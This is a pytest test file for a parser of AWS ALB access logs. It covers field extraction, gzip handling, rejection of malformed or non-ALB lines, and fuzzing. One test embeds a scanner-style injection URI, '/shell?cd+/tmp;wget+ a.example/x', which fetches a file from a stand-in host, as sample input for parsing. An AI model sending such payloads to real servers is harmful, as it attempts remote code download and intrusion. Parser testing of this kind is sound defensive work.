"""AWS ALB access logs: every documented field, other AWS log kinds, malformed requests."""

from __future__ import annotations

import gzip
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from phiwatch.ingest import IngestOptions, IngestReport
from phiwatch.ingest.alb import AlbSource, fields
from tests.ingest.util import read_bytes, rejected_lines

FULL = (
    b"h2 2026-03-01T12:00:00.500000Z app/fhir-prod/50dc6c495c0c9188 203.0.113.7:2817 10.0.0.1:8080 "
    b"0.001 0.120 0.004 200 200 412 1532 "
    b'"GET https://FHIR.example.org:443/r4/Patient/123?_format=json HTTP/2.0" "SMART-App/2.1 (iOS)" '
    b"TLS_AES_128_GCM_SHA256 TLSv1.3 "
    b"arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/fhir/73e2 "
    b'"Root=1-58337262-36d228ad5d99923122bbe354" "fhir.example.org" '
    b'"arn:aws:acm:us-east-1:1:certificate/1" 1 '
    b'2026-03-01T12:00:00.375000Z "forward" "-" "-" "10.0.0.1:8080" "200" "Acceptable" "-" '
    b'TID_b33932fc40603344b9a76c1b94b208fd "-" "-" "-"\n'
)
OLD = (
    b"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 "
    b'10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/?a=b HTTP/1.1" '
    b'"curl/7.46.0" - -\n'
)


def test_full_modern_line(tmp_path: Path) -> None:
    (ev,), report = read_bytes(tmp_path, FULL, "alb.log")
    assert report.rejected == 0 and report.by_format["alb"] == 1
    assert ev.ts == 1772366400.375  # request_creation_time: when the request arrived
    assert ev.client_ip == "203.0.113.7"
    req = ev.request
    assert (req.method, req.scheme, req.host, req.path, req.query, req.http_version) == (
        "GET",
        "https",
        "fhir.example.org",
        "/r4/Patient/123",
        "_format=json",
        "HTTP/2.0",
    )
    assert req.headers == {
        "host": "fhir.example.org",
        "user-agent": "SMART-App/2.1 (iOS)",
        "x-amzn-trace-id": "Root=1-58337262-36d228ad5d99923122bbe354",
    }
    assert (req.body, req.body_size) == (None, 412)
    assert (ev.response.status, ev.response.body_size) == (200, 1532)
    assert ev.response.duration_ms == pytest.approx(125.0)


def test_old_short_line_and_gzip(tmp_path: Path) -> None:
    (ev,), report = read_bytes(tmp_path, gzip.compress(OLD), "elb.log")  # gzip by magic, not name
    assert report.rejected == 0
    assert ev.ts == 1530570180.186641  # no request_creation_time: the response time
    assert (ev.request.scheme, ev.request.host, ev.request.query) == ("http", "www.example.com", "a=b")


@pytest.mark.parametrize(
    ("line", "reason_part"),
    [
        (
            b"tls 2.0 2018-12-20T02:59:40 net/my-nlb/c6e7 g3d4 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 -",
            "NLB",
        ),
        (b"2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 - - Success", "non-ALB"),  # conn log
        (
            b"http 2025-05-01T11:24:32.748149Z app/a/b 127.0.0.1:57273 - -1 -1 -1 400 - 0 272 "
            b'"- http://internal.example.com:80- " "-" - -',
            "malformed request",
        ),
        (OLD[:120], "truncated"),  # cut line
        (OLD.replace(b"2018-07-02T22", b"2018-99-02T22"), "time"),  # bad time
    ],
)
def test_rejections(tmp_path: Path, line: bytes, reason_part: str) -> None:
    events, report = read_bytes(
        tmp_path, OLD + line.rstrip(b"\n") + b"\n" + OLD, options=IngestOptions(fmt="alb")
    )
    assert [e.line for e in events] == [1, 3]
    assert rejected_lines(report) == [2] and reason_part in report.rejected_samples[0].reason


def test_space_in_uri_kept(tmp_path: Path) -> None:
    line = OLD.replace(
        b"http://www.example.com:80/?a=b", b"http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x"
    )
    (ev,), _ = read_bytes(tmp_path, line)
    assert ev.request.query == "cd+/tmp;wget+ a.example/x"


def test_fields_split() -> None:
    assert fields('a "b c" - "" d') == ["a", "b c", "-", "", "d"]


def test_sniff() -> None:
    assert AlbSource.sniff(FULL) and AlbSource.sniff(OLD)
    assert AlbSource.sniff(b"tls 2.0 2018-12-20T02:59:40 net/x y\n" + OLD)  # mixed bucket
    assert not AlbSource.sniff(
        b'[2026-03-01T12:00:00.250Z] "GET / HTTP/1.1" 200 - 0 1 1 1 "-" "-" "-" "-" "-"'
    )


@settings(max_examples=200)
@given(cut=st.integers(min_value=0, max_value=len(FULL)), junk=st.binary(max_size=5))
def test_mutated_lines_never_raise(cut: int, junk: bytes) -> None:
    list(AlbSource.read(io.BytesIO(FULL[:cut] + junk + FULL[cut:]), "mut", IngestReport(), IngestOptions()))


@settings(max_examples=150)
@given(data=st.binary(max_size=300))
def test_random_bytes_never_raise(data: bytes) -> None:
    list(AlbSource.read(io.BytesIO(b"https " + data), "fuzz", IngestReport(), IngestOptions()))
